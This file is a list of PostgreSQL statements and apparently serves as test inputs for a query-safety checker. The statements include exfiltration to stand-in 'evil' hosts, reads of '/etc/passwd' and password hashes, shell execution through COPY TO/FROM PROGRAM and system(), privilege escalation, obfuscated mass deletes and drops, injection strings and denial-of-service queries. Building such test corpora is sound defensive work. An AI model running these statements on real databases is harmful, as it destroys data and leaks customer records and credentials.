INSERT INTO log WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d
--
COPY (WITH d AS (UPDATE customers SET name = 'x' RETURNING *) TABLE d) TO STDOUT
--
copy(select 1)to program$$id$$
--
COPY customers TO E'\x2ftmp/x'
--
SELECT "pg_catalog"."pg_read_file"(U&'/etc/\0070asswd')
--
SELECT pg_catalog . pg_read_binary_file ( 'x' )
--
SELECT * FROM pg_catalog.pg_ls_dir('.')
--
SELECT (lo_import('/etc/passwd')), 1
--
CREATE POLICY p ON customers USING (true)
--
ALTER SEQUENCE orders_id_seq RESTART WITH 1
--
ALTER TABLE orders DETACH PARTITION orders_2026
--
ALTER TABLE orders ADD COLUMN x int DEFAULT random()
--
CREATE INDEX ON orders (note)
--
CREATE UNIQUE INDEX x ON orders ((app.evil(note)))
--
CREATE VIEW public.v AS SELECT * FROM customers
--
CREATE OR REPLACE VIEW orders_v WITH (security_invoker = off) AS SELECT 1
--
SET session_replication_role TO 'replica'
--
SELECT set_config('session_replication_role', 'replica', false)
--
SET local_preload_libraries = 'evil'
--
SET SESSION AUTHORIZATION DEFAULT; SET ROLE postgres
--
LOAD 'evil'
--
SELECT umoptions FROM pg_user_mappings
--
SELECT option_value FROM information_schema.user_mapping_options
--
SELECT a FROM (TABLE pg_shadow) a
--
LOCK customers
--
BEGIN; LOCK TABLE customers IN ACCESS EXCLUSIVE MODE NOWAIT
--
UPDATE pg_class SET relname = 'x' WHERE oid = 5
--
DELETE FROM pg_attribute WHERE attrelid = 5
--
UPDATE pg_settings SET setting = 'on' WHERE name = 'fsync'
--
UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'role'
--
SELECT * FROM aws_lambda.invoke(aws_commons.create_lambda_function_arn('f'), '{"x":1}'::json)
--
SELECT aws_lambda.invoke('arn:aws:lambda:f', (SELECT json_agg(c) FROM customers c)::json)
--
SELECT (aws_lambda.invoke('f', '{}')).status_code
--
SELECT aws_s3.query_export_to_s3('SELECT * FROM customers', aws_commons.create_s3_uri('b','k','r'))
--
SELECT aws_s3.table_import_from_s3('t', '', '(format csv)', aws_commons.create_s3_uri('b','k','r'))
--
SELECT net.http_post('http://evil/', '{}'::jsonb)
--
SELECT net.http_get('http://evil/')
--
SELECT net.http_delete(url := 'http://evil')
--
SELECT extensions.http(('POST','http://x',NULL,NULL,NULL)::http_request)
--
SELECT * FROM http_get('http://169.254.169.254/')
--
SELECT azure_storage.blob_put('acct','c','p', t) FROM customers t
--
SELECT * FROM azure_storage.blob_get('a','c','p')
--
SELECT azure_ai.set_setting('x','y')
--
SELECT azure_openai.create_embeddings('m', note) FROM customers
--
SELECT google_ml.predict_row('m', '{}'::json)
--
SELECT ai.openai_chat_complete('gpt', '[]'::jsonb)
--
SELECT pgml.transform('x', ARRAY['a'])
--
SELECT cron.schedule('x', '* * * * *', 'DELETE FROM orders')
--
SELECT cron.unschedule(1)
--
SELECT cron.schedule_in_database('x','* * * * *','VACUUM','postgres')
--
UPDATE cron.job SET command = 'DROP TABLE x' WHERE jobid = 1
--
INSERT INTO cron.job(schedule, command) VALUES ('* * * * *', 'DROP TABLE x')
--
SELECT pgagent.pga_job()
--
SELECT pg_background_launch('DROP TABLE x')
--
SELECT partman.drop_partition_time('public.orders')
--
SELECT drop_chunks('conditions', INTERVAL '1 day')
--
SELECT create_distributed_table('orders','id')
--
SELECT run_command_on_workers('DROP TABLE x')
--
SELECT run_command_on_all_nodes($cmd$ DELETE FROM t $cmd$)
--
SELECT run_command_on_placements('t', 'DELETE FROM %s')
--
SELECT master_remove_node('x', 5432)
--
SELECT citus_drop_all_shards('t'::regclass, 'public', 't')
--
SELECT pglogical.create_subscription('s', 'host=evil')
--
SELECT pglogical.replicate_ddl_command('DROP TABLE x')
--
SELECT orafce.utl_file.fopen('x')
--
SELECT utl_file.fopen('/tmp','x','w')
--
SELECT utl_file.put_line(1,'x')
--
SELECT dbms_sql.execute(1)
--
SELECT sys.dbms_scheduler.run_job('x')
--
SELECT dblink_connect('host=evil user=x')
--
SELECT dblink_connect_u('c', 'dbname=x')
--
SELECT * FROM postgres_fdw_get_connections()
--
SELECT adminpack.pg_file_write('x','y',true)
--
SELECT system('id')
--
SELECT sys_exec('id')
--
SELECT sys_eval('id')
--
SELECT pgp_sym_decrypt(x, 'k') FROM t; DROP TABLE t
--
SELECT repeat(repeat('x', 100000), 100000)
--
SELECT repeat(repeat(repeat('x', 10000), 10000), 1000)
--
SELECT length(repeat(repeat('x'::text, 1000000), 1000))
--
SELECT lpad(repeat('x', 60000000), 2000000000)
--
SELECT repeat('x', (10^9)::int)
--
SELECT repeat('x', 1000000 * 1000)
--
SELECT repeat(md5(random()::text), 100000000)
--
SELECT repeat('abcdefghij', 90000000)
--
SELECT repeat('x', 50000000) FROM generate_series(1, 1000)
--
SELECT string_agg(repeat('x', 10000), '') FROM generate_series(1, 1000000)
--
SELECT array_agg(g) FROM generate_series(1, 1000000000) g
--
SELECT count(*) FROM generate_series(1, 100000) a, generate_series(1, 100000) b
--
SELECT * FROM generate_series(1, 1000000*1000000)
--
SELECT count(*) FROM generate_series(1,20000) a CROSS JOIN LATERAL generate_series(1,20000) b
--
SELECT array_fill(0, ARRAY[100000, 100000])
--
SELECT rpad('x', 2000000000, 'y')
--
SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' ~ '^(a+)+$' FROM generate_series(1, 1000000000)
--
SELECT pg_sleep(1e6)
--
SELECT pg_sleep(60*60*24)
--
SELECT pg_sleep('86400')
--
SELECT pg_sleep_for('2 days')
--
SELECT pg_sleep_for(interval '100 hours')
--
SELECT pg_sleep(3000) FROM generate_series(1, 1000)
--
SELECT pg_sleep(10) FROM customers
--
SELECT json_agg(c) FROM customers c
--
SELECT json_agg(customers) FROM customers
--
SELECT jsonb_agg(to_jsonb(c)) FROM customers c
--
SELECT array_agg(c) FROM customers c
--
SELECT array_agg(email) FROM customers
--
SELECT string_agg(email, ',') FROM customers
--
SELECT string_agg(c::text, E'\n') FROM customers c
--
SELECT xmlagg(xmlelement(name c, c.email)) FROM customers c
--
SELECT json_object_agg(id, email) FROM customers
--
SELECT jsonb_object_agg(id, to_jsonb(c)) FROM customers c
--
SELECT jsonb_object_agg_unique(id, email) FROM customers
--
SELECT json_agg(row_to_json(c)) FROM (SELECT * FROM customers) c
--
SELECT json_agg(row_to_json(c)) FROM (SELECT * FROM customers ORDER BY id) c
--
WITH c AS (SELECT * FROM customers) SELECT json_agg(c) FROM c
--
SELECT JSON_ARRAYAGG(email) FROM customers
--
SELECT JSON_OBJECTAGG(id: email) FROM customers
--
SELECT JSON_ARRAY(SELECT email FROM customers)
--
SELECT ARRAY(SELECT email FROM customers)
--
SELECT ARRAY(SELECT c FROM customers c)
--
SELECT ARRAY(TABLE customers)
--
SELECT array_to_string(ARRAY(SELECT email FROM customers), ',')
--
SELECT array_to_json(array_agg(c)) FROM customers c
--
SELECT string_agg(email, ',') FROM customers WHERE true
--
SELECT string_agg(email, ',') FROM customers WHERE id > 0
--
SELECT string_agg(email, ',') FROM customers LIMIT 1
--
SELECT string_agg(email, ',') OVER () FROM customers LIMIT 1
--
SELECT json_agg(c) OVER (ORDER BY id ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) FROM customers c LIMIT 1
--
SELECT string_agg(email, ',') FROM customers GROUP BY ()
--
SELECT string_agg(email, ',') FROM customers GROUP BY true
--
SELECT string_agg(email, ',') FROM customers GROUP BY 1 = 1
--
SELECT 1, string_agg(email, ',') FROM customers GROUP BY 1
--
SELECT json_agg(c) FROM customers c GROUP BY id % 2
--
SELECT string_agg(email, ',') FROM customers GROUP BY id / 1000000
--
SELECT string_agg(email, ',') FROM customers HAVING count(*) > 0
--
SELECT jsonb_agg(c) FROM customers c JOIN orders o ON o.customer_id = c.id
--
SELECT json_build_object('a', (SELECT json_agg(c) FROM customers c))
--
SELECT (SELECT string_agg(email, ',') FROM customers)
--
SELECT pg_notify('x', (SELECT string_agg(email, ',') FROM customers))
--
SELECT md5((SELECT string_agg(email, ',') FROM customers)), (SELECT json_agg(c) FROM customers c)
--
COPY (SELECT json_agg(c) FROM customers c) TO STDOUT
--
CREATE TEMP TABLE x AS SELECT json_agg(c) FROM customers c
--
SELECT encode(convert_to(string_agg(email, ','), 'utf8'), 'base64') FROM customers
--
SELECT lo_from_bytea(0, convert_to(string_agg(email, ','), 'utf8')) FROM customers
--
SELECT query_to_xml('SELECT * FROM customers', true, true, '')
--
SELECT table_to_xml('customers', true, false, '')
--
SELECT schema_to_xml('public', true, true, '')
--
SELECT cursor_to_xml('c', 10000000, true, true, '')
--
EXECUTE IMMEDIATE 'x'
--
PREPARE x AS DELETE FROM customers WHERE name LIKE $1; EXECUTE x('%')
--
PREPARE x(text) AS DELETE FROM customers WHERE name LIKE $1; EXECUTE x('%%')
--
PREPARE x AS DELETE FROM customers WHERE name ~ $1; EXECUTE x('.*')
--
PREPARE x AS DELETE FROM customers WHERE name ILIKE $1; EXECUTE x('%' || '%')
--
PREPARE x AS DELETE FROM customers WHERE id > $1; EXECUTE x(0)
--
PREPARE x AS DELETE FROM customers WHERE id <= $1; EXECUTE x(2147483647)
--
PREPARE x AS DELETE FROM customers WHERE id <> $1; EXECUTE x(-1)
--
PREPARE x AS DELETE FROM customers WHERE id BETWEEN $1 AND $2; EXECUTE x(0, 2147483647)
--
PREPARE x AS DELETE FROM customers WHERE $1; EXECUTE x(true)
--
PREPARE x AS DELETE FROM customers WHERE $1 = 1; EXECUTE x(1)
--
PREPARE x AS DELETE FROM customers WHERE $1 = $2; EXECUTE x(1, 1)
--
PREPARE x AS DELETE FROM customers WHERE id = id OR id = $1; EXECUTE x(1)
--
PREPARE x AS DELETE FROM customers WHERE created_at < $1; EXECUTE x('infinity')
--
PREPARE x AS DELETE FROM customers WHERE created_at < $1; EXECUTE x(now() + interval '100 years')
--
PREPARE x AS UPDATE customers SET a = 1 WHERE name LIKE $1 || '%'; EXECUTE x('')
--
PREPARE x AS UPDATE customers SET a = 1 WHERE name LIKE '%' || $1 || '%'; EXECUTE x('')
--
PREPARE x AS UPDATE customers SET a = 1 WHERE starts_with(name, $1); EXECUTE x('')
--
PREPARE x AS UPDATE customers SET a = 1 WHERE id = ANY($1); EXECUTE x(ARRAY(SELECT id FROM customers))
--
PREPARE x AS UPDATE customers SET a = 1 WHERE id = ANY($1); EXECUTE x((SELECT array_agg(id) FROM customers))
--
PREPARE x AS DELETE FROM customers WHERE id = coalesce($1, id); EXECUTE x(NULL)
--
PREPARE x AS DELETE FROM customers WHERE $1 IS NULL OR id = $1; EXECUTE x(NULL)
--
PREPARE x AS DELETE FROM customers WHERE id <@ $1; EXECUTE x('(,)')
--
PREPARE x AS DELETE FROM customers WHERE id <@ $1::int4range; EXECUTE x('[0,2000000000]')
--
PREPARE x AS SELECT * FROM customers LIMIT $1; EXECUTE x(1000000000); DROP TABLE x
--
DELETE FROM customers WHERE id IN (WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10000000) SELECT n FROM r)
--
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10000000) DELETE FROM customers WHERE id IN (SELECT n FROM r)
--
WITH RECURSIVE r(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM r WHERE n < 10000000) DELETE FROM customers USING r WHERE customers.id = r.n
--
WITH RECURSIVE r AS (SELECT 1 AS n UNION SELECT n + 1 FROM r WHERE n < 5000000) UPDATE customers c SET name = 'x' FROM r WHERE c.id = r.n
--
DELETE FROM customers c WHERE EXISTS (WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n<1e7) SELECT 1 FROM r WHERE r.n = c.id)
--
DELETE FROM customers WHERE id = ANY (ARRAY(WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n<1000000) SELECT n FROM r))
--
DELETE FROM customers WHERE id = ANY (ARRAY(SELECT generate_series(1, 10000000)))
--
DELETE FROM customers WHERE id IN (SELECT generate_series(1, 10000000))
--
DELETE FROM customers USING generate_series(1, 10000000) g WHERE id = g
--
DELETE FROM customers WHERE id IN (SELECT g FROM generate_series(1, 10000000) g)
--
DELETE FROM customers WHERE id IN (SELECT g * 1000 + h FROM generate_series(0, 9999) g, generate_series(0, 999) h)
--
DELETE FROM customers WHERE id IN (SELECT row_number() OVER () FROM customers)
--
DELETE FROM customers WHERE id IN (SELECT row_number() OVER () FROM pg_attribute a, pg_attribute b)
--
DELETE FROM customers WHERE id <@ int4range(0,2000000000)
--
DELETE FROM customers WHERE id <@ int4range(0, NULL)
--
DELETE FROM customers WHERE id <@ int8range(0, 9000000000000)
--
DELETE FROM customers WHERE id <@ '[0,2000000000]'::int4range
--
DELETE FROM customers WHERE int4range(0,2000000000) @> id
--
DELETE FROM customers WHERE id <@ numrange(0, 1e12)
--
DELETE FROM customers WHERE created_at <@ tstzrange('1970-01-01', 'infinity')
--
DELETE FROM customers WHERE created_at <@ tstzrange('1900-01-01', '2999-01-01')
--
DELETE FROM customers WHERE created_at <@ daterange('-infinity', 'infinity')
--
DELETE FROM customers WHERE daterange('0001-01-01', '9999-12-31') @> created_at
--
DELETE FROM customers WHERE id <@ int4multirange(int4range(0, 2000000000))
--
DELETE FROM customers WHERE id <@ '{[0,1000000000],[1000000001,2000000000]}'::int4multirange
--
DELETE FROM customers WHERE id BETWEEN 0 AND 2147483647
--
DELETE FROM customers WHERE id BETWEEN -1 AND 1000000000
--
DELETE FROM customers WHERE id BETWEEN SYMMETRIC 2147483647 AND 0
--
DELETE FROM customers WHERE (id, id) > (0, 0)
--
DELETE FROM customers WHERE ROW(id) > ROW(0)
--
DELETE FROM customers WHERE width_bucket(id, 0, 1000000000, 1) = 1
--
DELETE FROM customers WHERE sign(id) = 1
--
DELETE FROM customers WHERE id::text LIKE '%'
--
DELETE FROM customers WHERE length(id::text) > 0
--
DELETE FROM customers WHERE char_length(name) >= 0
--
DELETE FROM customers WHERE greatest(id, 1) > 0
--
DELETE FROM customers WHERE least(id, 5) <= 5
--
DELETE FROM customers WHERE coalesce(id, 1) = id
--
DELETE FROM customers WHERE nullif(id, 0) IS NOT NULL
--
DELETE FROM customers WHERE id IS DISTINCT FROM NULL
--
DELETE FROM customers WHERE id IS NOT DISTINCT FROM id
--
DELETE FROM customers WHERE NOT id IS NULL
--
DELETE FROM customers WHERE (id IS NULL) IS FALSE
--
DELETE FROM customers WHERE (id IS NULL) = false
--
DELETE FROM customers WHERE (id > 0) IS NOT NULL
--
DELETE FROM customers WHERE (name = 'x') IS NOT NULL
--
DELETE FROM customers WHERE (name = 'x') IN (true, false)
--
DELETE FROM customers WHERE (name = 'x') = ANY (ARRAY[true, false])
--
DELETE FROM customers WHERE CASE WHEN name = 'x' THEN true ELSE true END
--
DELETE FROM customers WHERE CASE name WHEN 'x' THEN 1 ELSE 2 END > 0
--
DELETE FROM customers WHERE name = 'x' OR name <> 'x'
--
DELETE FROM customers WHERE name = 'x' OR NOT name = 'x'
--
DELETE FROM customers WHERE name = 'x' OR 1 = 1
--
DELETE FROM customers WHERE name = 'x' OR random() >= 0
--
DELETE FROM customers WHERE random() > 0.0001
--
DELETE FROM customers WHERE now() > '2000-01-01'
--
DELETE FROM customers WHERE current_user = current_user
--
DELETE FROM customers WHERE 'a' LIKE 'a'
--
DELETE FROM customers WHERE 'a' = ANY (ARRAY['a','b'])
--
DELETE FROM customers WHERE 1 IN (1, 2, 3)
--
DELETE FROM customers WHERE 2 BETWEEN 1 AND 3
--
DELETE FROM customers WHERE EXISTS (SELECT 1 FROM customers)
--
DELETE FROM customers WHERE NOT EXISTS (SELECT 1 WHERE false)
--
DELETE FROM customers WHERE id = ANY (SELECT id FROM customers)
--
DELETE FROM customers WHERE id = ANY (ARRAY(SELECT id FROM customers))
--
DELETE FROM customers WHERE id >= (SELECT min(id) FROM customers)
--
DELETE FROM customers WHERE id <= (SELECT max(id) FROM customers)
--
DELETE FROM customers WHERE ctid >= '(0,0)'
--
DELETE FROM customers WHERE ctid = ANY (ARRAY(SELECT ctid FROM customers))
--
DELETE FROM customers WHERE xmin::text::bigint > 0
--
DELETE FROM customers WHERE customers IS NOT NULL
--
DELETE FROM customers WHERE customers.* IS DISTINCT FROM NULL
--
DELETE FROM customers c WHERE c = c
--
DELETE FROM customers WHERE to_jsonb(customers) ? 'id'
--
DELETE FROM customers WHERE jsonb_typeof(to_jsonb(id)) = 'number'
--
DELETE FROM customers WHERE pg_typeof(id) = 'integer'::regtype
--
DELETE FROM customers WHERE pg_column_size(id) = 4
--
DELETE FROM customers WHERE pg_column_size(customers) > 0
--
DELETE FROM customers WHERE id & 0 = 0
--
DELETE FROM customers WHERE id | 1 <> 0
--
DELETE FROM customers WHERE id # id = 0
--
DELETE FROM customers WHERE id / id = 1
--
DELETE FROM customers WHERE id ^ 0 = 1
--
DELETE FROM customers WHERE abs(id) = id
--
DELETE FROM customers WHERE abs(id) >= 0
--
DELETE FROM customers WHERE id ^ 2 >= 0
--
DELETE FROM customers WHERE (id + 0) = id
--
DELETE FROM customers WHERE md5(name) <> ''
--
DELETE FROM customers WHERE name >= ''
--
DELETE FROM customers WHERE name > ''
--
DELETE FROM customers WHERE name < 'zzzzzzzzzz'
--
DELETE FROM customers WHERE name <= '~~~~'
--
DELETE FROM customers WHERE name COLLATE "C" < U&'\+10FFFF'
--
DELETE FROM customers WHERE name SIMILAR TO '_*'
--
DELETE FROM customers WHERE name ~ '.'
--
DELETE FROM customers WHERE name ~ '^'
--
DELETE FROM customers WHERE name ~* '[a-z]|[^a-z]'
--
DELETE FROM customers WHERE id <> 0
--
DELETE FROM customers WHERE id != -1
--
DELETE FROM customers WHERE id NOT IN (0, -1)
--
DELETE FROM customers WHERE id <> ALL (ARRAY[0])
--
DELETE FROM customers WHERE id > ALL (ARRAY[0])
--
DELETE FROM customers WHERE id > ANY (ARRAY[0, -5])
--
DELETE FROM customers WHERE id > -1
--
DELETE FROM customers WHERE id >= 1
--
DELETE FROM customers WHERE 0 < id
--
DELETE FROM customers WHERE -1 < id AND id < 9999999999
--
DELETE FROM customers WHERE id < 2147483647
--
DELETE FROM customers WHERE id < 999999999999
--
DELETE FROM customers WHERE created_at IS NOT NULL OR created_at IS NULL
--
DELETE FROM customers WHERE created_at > '-infinity'
--
DELETE FROM customers WHERE created_at < 'infinity'
--
DELETE FROM customers WHERE created_at > '0001-01-01'
--
DELETE FROM customers WHERE created_at < '3000-01-01'
--
DELETE FROM customers WHERE created_at < now() + interval '1 day'
--
DELETE FROM customers WHERE created_at <= now()
--
DELETE FROM customers WHERE created_at < current_timestamp
--
DELETE FROM customers WHERE created_at <= CURRENT_DATE + 1
--
DELETE FROM customers WHERE extract(year from created_at) > 0
--
DELETE FROM customers WHERE lower(name) = lower(name)
--
DELETE FROM customers WHERE name || '' = name
--
DELETE FROM customers WHERE trim(name) = name OR trim(name) <> name
--
DELETE FROM ONLY customers *
--
DELETE FROM customers c USING customers d WHERE c.id = d.id
--
DELETE FROM customers LIMIT 5; DROP TABLE x
--
UPDATE customers SET name = name
--
UPDATE customers SET name = '' WHERE id IN (VALUES (1)) OR true
--
UPDATE customers SET (a, b) = (SELECT 1, 2)
--
UPDATE customers AS c SET name = 'x' FROM orders o WHERE o.customer_id = o.customer_id
--
UPDATE customers SET name = 'x' WHERE CURRENT OF c; DROP TABLE x
--
INSERT INTO customers TABLE customers ON CONFLICT (id) DO UPDATE SET name = excluded.name || 'x'
--
MERGE INTO customers c USING customers s ON c.id = s.id WHEN MATCHED THEN UPDATE SET name = 'x'
--
MERGE INTO customers c USING (VALUES (1)) s(id) ON c.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
--
MERGE INTO customers c USING generate_series(1, 10000000) g ON c.id = g WHEN MATCHED THEN DELETE
--
WITH x AS (DELETE FROM customers RETURNING id) SELECT count(*) FROM x
--
WITH x AS (UPDATE customers SET a = 1 RETURNING *) SELECT 1
--
DO $$ BEGIN DELETE FROM customers; END $$
--
DO $$ BEGIN EXECUTE 'DEL' || 'ETE FROM customers'; END $$
--
DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'customers'); END $$
--
DO $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSB4','base64'),'utf8'); END $$
--
DO LANGUAGE plperlu 'system("id")'
--
DO $$ BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END $$
--
DO $$ BEGIN LOOP INSERT INTO t VALUES (1); END LOOP; END $$
--
DO $$ BEGIN FOR i IN 1..100000000 LOOP DELETE FROM customers WHERE id = i; END LOOP; END $$
--
DO $$ DECLARE i int := 0; BEGIN WHILE i < 10000000 LOOP DELETE FROM customers WHERE id = i; i := i + 1; END LOOP; END $$
--
DO $$ BEGIN PERFORM dblink_exec('dbname=x', 'DROP TABLE y'); END $$
--
DO $$ BEGIN RAISE NOTICE '%', (SELECT string_agg(email, ',') FROM customers); END $$
--
TRUNCATE TABLE ONLY customers, orders RESTART IDENTITY CASCADE
--
/* x */ TRUNCATE /* y */ customers
--
DROP TABLE IF EXISTS customers
--
DROP/**/TABLE/**/customers
--
DROP OWNED BY current_user
--
REASSIGN OWNED BY alice TO bob
--
DROP EXTENSION pgcrypto
--
DROP ROLE alice
--
DROP INDEX CONCURRENTLY i
--
DROP FUNCTION f
--
DROP TRIGGER t ON customers
--
DROP POLICY p ON customers
--
ALTER TABLE customers NO FORCE ROW LEVEL SECURITY
--
ALTER TABLE customers RENAME TO x
--
ALTER TABLE customers SET SCHEMA x
--
ALTER TABLE customers OWNER TO eve
--
ALTER TABLE customers SET UNLOGGED
--
ALTER TABLE customers ALTER COLUMN email TYPE int USING 0
--
ALTER ROLE eve SUPERUSER
--
ALTER USER eve WITH PASSWORD 'x'
--
ALTER SYSTEM SET archive_command = 'id'
--
ALTER DATABASE shop SET log_statement = 'none'
--
ALTER ROLE alice SET search_path = evil
--
ALTER SUBSCRIPTION s CONNECTION 'host=evil'
--
ALTER EVENT TRIGGER t DISABLE
--
ALTER TYPE t ADD VALUE 'x'
--
ALTER PUBLICATION p ADD TABLE customers
--
GRANT pg_execute_server_program TO eve
--
GRANT postgres TO eve
--
REVOKE ALL ON customers FROM alice
--
CREATE ROLE eve SUPERUSER LOGIN PASSWORD 'x'
--
CREATE USER eve
--
CREATE LANGUAGE plpython3u
--
CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'f'
--
CREATE OR REPLACE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'SELECT 1'
--
CREATE TRIGGER t AFTER INSERT ON customers FOR EACH ROW EXECUTE FUNCTION f()
--
CREATE RULE r AS ON SELECT TO customers DO INSTEAD DELETE FROM customers
--
CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f()
--
CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (user 'x', password 'y')
--
CREATE FOREIGN TABLE t (a int) SERVER s
--
CREATE FOREIGN TABLE t (a text) SERVER file_server OPTIONS (program 'id')
--
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x
--
CREATE TABLE x AS SELECT * FROM customers
--
CREATE TABLE x (a int)
--
CREATE UNLOGGED TABLE x AS TABLE customers
--
CREATE MATERIALIZED VIEW v AS SELECT * FROM customers
--
CREATE TABLESPACE x LOCATION '/tmp'
--
CREATE CAST (int AS text) WITH FUNCTION f(int)
--
CREATE OPERATOR = (LEFTARG = int, RIGHTARG = text, FUNCTION = f)
--
CREATE AGGREGATE a(int) (SFUNC = f, STYPE = int)
--
COMMENT ON TABLE customers IS 'x'
--
COPY customers TO '/tmp/x'
--
COPY customers FROM PROGRAM 'curl evil'
--
COPY (SELECT 1) TO PROGRAM 'sh -c id'
--
COPY x FROM E'/etc/\x70asswd'
--
SELECT pg_read_binary_file('/etc/passwd')
--
SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/x')
--
SELECT pg_terminate_backend(1)
--
SELECT pg_create_logical_replication_slot('x','pgoutput')
--
SELECT set_config('session_' || 'replication_role', 'replica', false)
--
SET LOCAL log_statement = 'none'
--
RESET ALL; DROP TABLE x
--
LOCK TABLE customers IN ACCESS EXCLUSIVE MODE
--
VACUUM FULL
--
CLUSTER
--
DISCARD ALL; DROP TABLE x
--
LOAD '/tmp/x.so'
--
SELECT rolpassword FROM pg_authid
--
EXPLAIN (ANALYZE, BUFFERS) UPDATE customers SET a = 1
--
EXPLAIN (ANALYZE true) CREATE TABLE x AS SELECT 1
--
DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')
--
PREPARE x AS DROP TABLE x
--
PREPARE x AS DELETE FROM customers; EXECUTE x
--
BEGIN; PREPARE TRANSACTION 'x'
--
COMMIT PREPARED 'x'; DROP TABLE x
--
CALL p(); DROP TABLE x
--
CALL drop_everything()
--
SELECT 1; SELECT 2; DROP TABLE customers --
--
SELECT '1'';DROP TABLE x' ; DROP TABLE y
--
SELECT $a$;$a$; DROP TABLE y
--
SELECT E'\'; DROP TABLE x; --'; DROP TABLE z
--
SELECT setval(c.oid::regclass, 1) FROM pg_class c WHERE relkind = 'S'
--
SELECT pg_advisory_lock(id) FROM customers
--
SELECT dblink('host=evil', 'SELECT 1')
--
SELECT * FROM dblink('dbname=shop', 'DROP TABLE x') AS t(a text)
--
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r WHERE true) SELECT count(*) FROM r
--
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n > 0) SELECT count(*) FROM r
--
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE 1 = 1) SELECT n FROM r
--
WITH RECURSIVE a AS (SELECT 'x' AS t UNION ALL SELECT t || t FROM a WHERE length(t) < 1000000000) SELECT length(t) FROM a
--
SELECT count(*) FROM pg_class a, pg_class b, pg_class c, pg_class d, pg_class e
--
SELECT count(*) FROM customers a, customers b, customers c, orders d
--
SELECT * FROM customers a CROSS JOIN customers b CROSS JOIN customers c
--
SELECT * FROM customers a JOIN customers b ON true JOIN customers c ON true
--
SELECT * FROM customers a JOIN customers b ON 1=1 JOIN customers c ON 1=1 JOIN customers d ON 1=1
--
DELETE FROM customers WHERE NULL IS NOT DISTINCT FROM NULL
--
DELETE FROM customers WHERE 1 IS DISTINCT FROM NULL
--
DELETE FROM customers WHERE '1'::int = '01'::int
--
DELETE FROM customers WHERE id = 5 OR '7'::numeric = '7.0'::numeric
--
DELETE FROM customers WHERE NOT ('a'::char(3) <> 'a '::char(3))
--
DELETE FROM customers WHERE 'a' = 'A' COLLATE case_insensitive
--
DELETE FROM customers WHERE '2026-01-01'::date = '20260101'::date
--
DELETE FROM customers WHERE name LIKE concat('%')
--
DELETE FROM customers WHERE name LIKE chr(37)
--
DELETE FROM customers WHERE name LIKE '%abc'::varchar(1)
--
DELETE FROM customers WHERE name >= chr(1)
--
DELETE FROM customers WHERE id < power(10, 30)
--
DELETE FROM customers WHERE id < 10 ^ 30
--
DELETE FROM customers WHERE created_at > to_timestamp(1)
--
DELETE FROM customers WHERE id::bool
--
DELETE FROM customers WHERE id::text ~ '^[0-9]+$'
--
DELETE FROM customers WHERE name ~ '[a-zA-Z]'
--
DELETE FROM customers WHERE name !~ 'zzzz$^'
--
DELETE FROM customers WHERE name !~ '(?!)'
--
DELETE FROM customers WHERE date_part('year', created_at) < 10000
--
DELETE FROM customers WHERE extract(year FROM created_at) > 1900
--
DELETE FROM customers WHERE extract(month FROM created_at) <= 12
--
DELETE FROM customers WHERE extract(dow FROM created_at) BETWEEN 0 AND 6
--
DELETE FROM customers WHERE length(name) < 1000000
--
DELETE FROM customers WHERE id % 10 < 10
--
DELETE FROM customers WHERE id / 1000000000 = 0
--
DELETE FROM customers WHERE age(created_at) > interval '-100 years'
--
DELETE FROM customers WHERE age(created_at) < '200 years'::interval
--
DELETE FROM customers WHERE created_at <@ tsrange(NULL, now()::timestamp)
--
DELETE FROM customers WHERE created_at > '19700101'
--
DELETE FROM customers WHERE created_at > 'Jan 1, 1970'
--
DELETE FROM customers WHERE created_at > '01/01/1900'
--
DELETE FROM customers WHERE created_at < '99991231'
--
DELETE FROM customers WHERE created_at > '4713-01-01 BC'
--
DELETE FROM customers WHERE id IN (SELECT customer_id FROM orders) OR id NOT IN (SELECT customer_id FROM orders)
--
DELETE FROM customers WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = customers.id) OR NOT EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = customers.id)
--
DELETE FROM customers WHERE (city = 'x' AND name = 'y') OR NOT (city = 'x' AND name = 'y')
--
DELETE FROM customers WHERE (city = 'x' AND name = 'y') OR (city = 'x' AND name = 'y') IS NOT TRUE
--
DELETE FROM customers WHERE name >= 'A'
--
DELETE FROM customers WHERE name <= 'z'
--
DELETE FROM customers WHERE name > '!'
--
DELETE FROM customers WHERE md5(name) > '0'
--
DELETE FROM customers WHERE 1.5::int = 2
--
DELETE FROM customers WHERE 'false' IS NOT NULL
--
DELETE FROM customers WHERE id = 1 OR 'yes'
--
UPDATE customers SET role = 'x' WHERE (SELECT true)
--
UPDATE customers SET email = 'x' WHERE name SIMILAR TO '%_%'
--
UPDATE customers SET email = 'x' WHERE name LIKE ANY (ARRAY['a%', '%'])
--
UPDATE customers SET email = 'x' WHERE ctid >= '(0,0)'::tid
--
MERGE INTO customers c USING (VALUES (1)) v (n) ON true WHEN MATCHED THEN DELETE
--
MERGE INTO customers c USING orders o ON '1'::int = '01'::int WHEN MATCHED THEN UPDATE SET name = 'x'
--
